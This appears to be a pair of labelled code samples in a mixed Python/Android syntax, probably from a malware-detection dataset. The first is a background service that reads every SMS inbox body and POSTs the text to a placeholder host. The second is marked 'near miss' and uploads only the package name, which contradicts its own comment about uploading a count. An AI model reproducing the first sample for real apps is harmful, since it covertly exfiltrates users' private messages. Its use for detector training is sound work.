permissions("READ_SMS", "INTERNET")

@service
class Sync(Service):
    def onStartCommand(self, intent, flags, number):
        Thread(Reader(self)).start()
        return 1

class Reader(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        place = Uri.parse("content://sms/inbox")
        rows = self.context.getContentResolver().query(place, None, None, None, None)
        out = StringBuilder()
        while rows.moveToNext():
            out.append(rows.getString(2))
        self.send(out.toString())
    def send(self, text: String):
        connection = cast(HttpURLConnection, URL("https://example.org/in").openConnection())
        connection.setRequestMethod("POST")
        DataOutputStream(connection.getOutputStream()).writeBytes(text)

# near miss: counts the messages for its own statistics and uploads nothing of them
class Reader(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        place = Uri.parse("content://sms/inbox")
        rows = self.context.getContentResolver().query(place, None, None, None, None)
        count = 0
        while rows.moveToNext():
            Toast.makeText(self.context, rows.getString(2), 1).show()
            count = count + 1
        self.send(StringBuilder().append(count).toString())
    def send(self, text: String):
        connection = cast(HttpURLConnection, URL("https://example.org/in").openConnection())
        connection.setRequestMethod("POST")
        DataOutputStream(connection.getOutputStream()).writeBytes(self.context.getPackageName())
